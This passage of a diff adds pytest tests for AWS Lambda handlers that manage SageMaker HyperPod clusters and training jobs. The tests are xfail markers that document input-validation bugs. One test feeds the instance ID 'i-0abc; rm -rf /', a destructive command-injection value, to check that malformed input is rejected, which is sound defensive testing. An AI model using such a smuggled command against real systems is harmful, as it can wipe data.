+    "BUG: CLUSTER_ARN_PATTERN and TrainingJobDetail.TrainingJobArn use `\\d{12}`, which pydantic's (Rust) regex "
+    "reads as any Unicode digit: an account of Arabic-Indic digits passes validation and the event goes on to "
+    "the HyperPod/SageMaker reads (ListTags is called with that ARN). Fix: `[0-9]{12}` in domain/models.py."))
+@pytest.mark.parametrize("sample,path,value", [
+    (NODE_SAMPLE, "ClusterArn", "arn:aws:sagemaker:us-west-2:\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668"
+                                "\u0669\u0660\u0661\u0662:cluster/k3v9q2w8x1za"),
+    (JOB_SAMPLE, "TrainingJobArn", "arn:aws:sagemaker:us-west-2:\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668"
+                                   "\u0669\u0660\u0661\u0662:training-job/ft-mistral-7b-0042"),
+], ids=["cluster-arn", "training-job-arn"])
+def test_unicode_digits_in_an_arn_are_rejected(world, sample, path, value):
+    event = copy.deepcopy(sample)
+    event["detail"][path] = value
+    entry = remediate_node if sample is NODE_SAMPLE else restart_training_job
+    record, _ = world.run(entry, event)
+    assert record["outcome"] == "rejected", record
+
+
+@pytest.mark.xfail(strict=True, raises=AssertionError, reason=(
+    "BUG (minor): TRAINING_JOB_NAME_PATTERN bounds the alphanumerics to 63 but not the hyphens, so a "
+    "TrainingJobName of any length passes (SageMaker names are at most 63 characters; DESIGN.md); the event "
+    "goes on to ListTags and the ledger. Fix: max_length=63 on TrainingJobDetail.TrainingJobName."))
+def test_a_training_job_name_over_63_characters_is_rejected(world):
+    event = copy.deepcopy(JOB_SAMPLE)
+    event["detail"]["TrainingJobName"] = "ft-" + "-" * 100 + "x"
+    record, _ = world.run(restart_training_job, event)
+    assert record["outcome"] == "rejected", record
+
+
+@pytest.mark.xfail(strict=True, raises=UnicodeEncodeError, reason=(
+    "BUG: the envelope's `id` is copied into the record unchecked; a lone surrogate (JSON '\\ud800') makes "
+    "the remediation line unencodable as UTF-8, so the Lambda runtime's stdout drops it (logging prints "
+    "'--- Logging error ---' instead): the decision leaves no record. Fix: validate `id` (printable, bounded) "
+    "at the edge, or sanitize event_id in records.complete()."))
+def test_a_lone_surrogate_in_the_event_id_still_leaves_a_record(world):
+    event = copy.deepcopy(NODE_SAMPLE)
+    event["id"] = json.loads('"5c1f4a2e-\\ud800"')
+    event["detail"]["InstanceId"] = "i-0abc; rm -rf /"
+    record, lines = world.run(remediate_node, event)
+    assert record["outcome"] == "rejected"
+    json.dumps(lines[0], ensure_ascii=False).encode("utf-8")
+
+
+@pytest.mark.xfail(strict=True, raises=AttributeError, reason=(
+    "BUG (Powertools BatchProcessor with model=DynamoDBStreamRecordModel): a stream record whose NewImage has an "
+    "attribute type the deserializer does not know fails in a nested model, so the processor keeps no record "
+    "for it and crashes building the response ('NoneType' object has no attribute 'dynamodb'): the whole batch "
+    "fails instead of one batchItemFailure. Unreachable from DynamoDB itself; fix by parsing inside _record."))
+def test_a_poison_stream_record_is_one_batch_item_failure(world, monkeypatch):
+    monkeypatch.setattr(agent_results, "dependencies", lambda: world.deps)
+    world.calls.allow = claims_only
+    poison = copy.deepcopy(RESULT_RECORD)
+    poison["dynamodb"]["NewImage"]["status"] = {"Q": "executed"}
+    response, _ = world.run(lambda raw, deps: agent_results.handler(raw, ResultsContext()),
+                            {"Records": [poison, SKIPPED_RECORDS[1]]})
+    assert response == {"batchItemFailures": [{"itemIdentifier": poison["dynamodb"]["SequenceNumber"]}]}
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "LOW: the agent results handler raises on an invocation that is not a DynamoDB Streams batch (Powertools: "
+    "ValueError 'Invalid event format' / UnexpectedBatchTypeError, also for an empty Records list). Only the "
+    "event source mapping invokes it, so this needs a direct invoke; a well-formed empty response would do."))
+@pytest.mark.parametrize("raw", [None, [], 7, {}, {"Records": []}, {"Records": "x"}, {"Records": None}],
+                         ids=["none", "list", "int", "empty", "no-records", "records-str", "records-null"])
+def test_an_invocation_that_is_not_a_stream_batch_gets_an_empty_response(world, monkeypatch, raw):
+    monkeypatch.setattr(agent_results, "dependencies", lambda: world.deps)
+    response, _ = world.run(lambda event, deps: agent_results.handler(event, ResultsContext()), raw)
+    assert response == {"batchItemFailures": []}
